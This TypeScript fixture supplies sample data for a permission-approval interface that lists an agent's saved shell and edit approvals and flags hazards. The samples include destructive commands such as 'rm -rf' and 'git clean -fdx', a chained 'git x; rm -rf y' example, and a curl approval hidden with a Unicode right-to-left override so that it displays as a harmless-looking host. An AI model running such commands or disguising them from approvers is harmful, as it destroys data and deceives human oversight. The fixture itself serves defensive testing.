/** Saved approvals as they look in practice. */
import type { PastRequest, SavedApproval, SavedProject, WouldMatch } from "../../bindings/api";

const MINUTE = 60_000;
const DAY = 24 * 60 * MINUTE;

const past = (number: number, title: string, change: Partial<PastRequest> = {}): PastRequest => ({
  number,
  at: Date.now() - Math.abs(number) * 47 * MINUTE,
  times: 1,
  title,
  partly: false,
  deletes: false,
  declined: false,
  ...change,
});

/** What was asked in the project before the activity that is listed. */
export const before: readonly { text: string; past: PastRequest }[] = [
  { text: "git add -A", past: past(-1, "Run git add -A", { times: 9 }) },
  { text: "git add src/limits.ts", past: past(-2, "Run git add src/limits.ts") },
  { text: "rm -rf dist/old", past: past(-3, "Run rm -rf dist/old", { deletes: true, times: 2 }) },
  { text: "rm -rf node_modules", past: past(-4, "Run rm -rf node_modules", { deletes: true, declined: true }) },
  { text: "rm notes.md", past: past(-5, "Run rm notes.md", { deletes: true, declined: true }) },
];

/** How far patterns reach that would have matched these. */
export function reach(examples: PastRequest[], change: Partial<WouldMatch> = {}): WouldMatch {
  const count = (wanted: (past: PastRequest) => boolean) =>
    examples.filter(wanted).reduce((sum, past) => sum + past.times, 0);
  return {
    total: count(() => true) + 20,
    count: count(() => true),
    partly: count((one) => one.partly),
    deletes: count((one) => one.deletes && !one.partly),
    declined: count((one) => one.declined && !one.partly),
    examples,
    others: [],
    everything: false,
    chained: null,
    hazards: [null],
    ...change,
  };
}

const approval = (id: string, resource: string, change: Partial<SavedApproval> = {}): SavedApproval => ({
  id,
  action: "shell",
  resource,
  shown: resource,
  created: Date.now() - 3 * DAY,
  leaving: null,
  reach: reach([]),
  ...change,
});

/** What the projects of a server have saved. */
export function savedProjects(): SavedProject[] {
  const git = [
    past(5, "Run git clean -fdx", { deletes: true, declined: true }),
    past(2, "Run git push --force-with-lease origin HEAD", { declined: true }),
    past(1, "Run git status --short", { times: 11 }),
    past(3, "Run git add -A && npm test", { partly: true }),
  ];
  return [
    {
      id: "p_api",
      name: "api-server",
      place: "/home/dev/api-server",
      directories: ["/home/dev/api-server", "/home/dev/api-server/packages/limits"],
      approvals: [
        approval("psv_1", "git *", {
          reach: reach(git, {
            count: 14,
            chained: "git x; rm -rf y",
            hazards: [{ hazard: "deletes", example: "git clean -fdx" }],
          }),
        }),
        approval("psv_2", "npm run build *", { created: null }),
        approval("psv_3", "*", {
          action: "edit",
          reach: reach([past(4, "Edit src/limits.ts"), past(9, "Edit README.md")], {
            everything: true,
            hazards: [{ hazard: "everything" }],
          }),
        }),
        approval("psv_4", "curl \u202ehs.live/sp.moc", { shown: "curl ⟨U+202E⟩hs.live/sp.moc" }),
      ],
    },
    {
      id: "global",
      name: "",
      place: "/",
      directories: ["/home/dev/notes"],
      approvals: [approval("psv_5", "/srv/share/*", { action: "external_directory" })],
    },
  ];
}
